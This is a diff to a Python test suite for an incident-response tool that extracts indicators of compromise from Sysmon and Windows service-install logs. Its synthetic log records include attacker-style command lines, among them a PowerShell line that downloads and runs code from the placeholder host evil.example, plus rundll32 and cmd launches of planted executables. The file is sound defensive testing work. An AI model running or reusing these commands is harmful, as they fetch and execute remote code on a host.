@@ -214,10 +214,13 @@ def check_without_intrusion(checks, folder):
         file.write(sysmon(2, 2, "WS\\ours", "C:\\Tools\\scan.exe", "scan.exe marked", "") + "\n")
         file.write(sysmon(3, 3, "WS\\taro", "C:\\Windows\\System32\\cmd.exe", "cmd marked /c \"C:\\ProgramData\\q\\y.exe -a\"", HASHES) + "\n")
         file.write(sysmon(4, 4, "WS\\taro", "C:\\Users\\taro\\plain.exe", "plain.exe", "") + "\n")
+        file.write(sysmon(5, 5, "WS\\taro", "C:\\Windows\\System32\\rundll32.exe", "rundll32 marked C:\\ProgramData\\z7,#1", "") + "\n")
+        file.write(sysmon(6, 6, "WS\\taro", "C:\\Windows\\System32\\RunDLL32.EXE", "RunDLL32 \"C:\\Users\\Public\\a b.dll\",Go marked", "") + "\n")
     with open(os.path.join(folder, "alone.yaml"), "w", encoding="utf-8") as file:
         file.write("responders:\n  - {account: ours, did: x}\n")
     os.makedirs(rules)
-    wanted = {("path", "C:\\Users\\taro\\x.exe"), ("path", "C:\\ProgramData\\q\\y.exe"), ("url", "http://evil.example/a.ps1"), ("ip", "203.0.113.9"),
+    wanted = {("path", "C:\\Users\\taro\\x.exe"), ("path", "C:\\ProgramData\\q\\y.exe"), ("path", "C:\\ProgramData\\z7"),
+              ("path", "C:\\Users\\Public\\a b.dll"), ("url", "http://evil.example/a.ps1"), ("ip", "203.0.113.9"),
               ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"), ("md5", "d41d8cd98f00b204e9800998ecf8427e")}
     kit.init(case, os.path.join(folder, "alone.yaml"))
     for level in ("medium", "high"):
@@ -239,6 +242,50 @@ def check_without_intrusion(checks, folder):
     checks.equal("alone: SHA-1 of nothing", (missing["status"], missing["in_logs_only"]), ("not found", True))
     rows = kit.kakuho("iocs", case, "--ioc", given, "--format", "jsonl").lines()
     checks.equal("alone: in files too", [(r["status"], r["contents"], "in_logs_only" in r) for r in rows], [("found", 1, False), ("not found", 0, False)])
+
+
+ANY_SERVICE = """title: Made For This Test
+id: 00000000-0000-4000-8000-0000000000ab
+level: high
+logsource: {product: windows, service: system}
+detection:
+  s: {EventID: 7045}
+  condition: s
+"""
+# what a service starts, and which paths and links are the intruder's
+SERVICES = [
+    ("%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'x' > \\\\.\\pipe\\x", []),
+    ("%COMSPEC% /c start C:\\ProgramData\\q\\evil.exe -k", ["C:\\ProgramData\\q\\evil.exe"]),
+    ("cmd /c C:\\Windows\\Temp\\run.bat", ["C:\\Windows\\Temp\\run.bat"]),
+    ("C:\\Odd Place\\a b.exe /service", ["C:\\Odd Place\\a b.exe"]),
+    ('"C:\\Odd Place\\c d.com" -s', ["C:\\Odd Place\\c d.com"]),
+    ("C:\\Odd\\noend", ["C:\\Odd\\noend"]),
+    ("powershell -c iex(irm http://evil.example/b)", ["http://evil.example/b"]),
+    ("C:\\Windows\\System32\\svchost.exe -k netsvcs", []),
+]
+
+
+def check_services(checks, folder):
+    """Of what a service starts the program counts, not its options; of a shell, what it is told to start."""
+    log, rule, case = (os.path.join(folder, n) for n in ("services.jsonl", "service.yml", "services"))
+    with open(log, "w", encoding="utf-8") as file:
+        for number, (image, _) in enumerate(SERVICES, 1):
+            file.write(json.dumps({"Event": {
+                "System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}}, "EventID": 7045, "Channel": "System", "Computer": "WS01",
+                           "EventRecordID": number, "TimeCreated": {"#attributes": {"SystemTime": f"2026-03-01T00:00:{number:02d}.000000Z"}}},
+                "EventData": {"ServiceName": f"upd{number}", "ImagePath": image, "ServiceType": "user mode service", "StartType": "demand start",
+                              "AccountName": "LocalSystem"}}}) + "\n")
+    with open(rule, "w", encoding="utf-8") as file:
+        file.write(ANY_SERVICE)
+    kit.init(case, os.path.join(folder, "alone.yaml"))
+    kit.add(case, [log], "--rules", rule)
+    rows = [r for r in kit.kakuho("iocs", case, "--format", "jsonl").lines() if r["type"] != "service"]
+    by_record = {number: [] for number in range(1, len(SERVICES) + 1)}
+    for row in rows:
+        for ref in row["refs"]:
+            by_record[ref["record"]].append(row["value"])
+    for number, (image, wanted) in enumerate(SERVICES, 1):
+        checks.equal(f"service {image}", by_record[number], wanted)
 
 
 def check_hidden(checks, folder):
@@ -309,6 +356,7 @@ def main():
     checks = kit.Checks()
     folder = kit.place("iocs")
     check_without_intrusion(checks, folder)
+    check_services(checks, folder)
     check_stix_of_two(checks, folder)
     check_hidden(checks, folder)
     checks.equal("a file that is not there", kit.kakuho("iocs", folder, "--ioc", os.path.join(folder, "none")).status, 2)
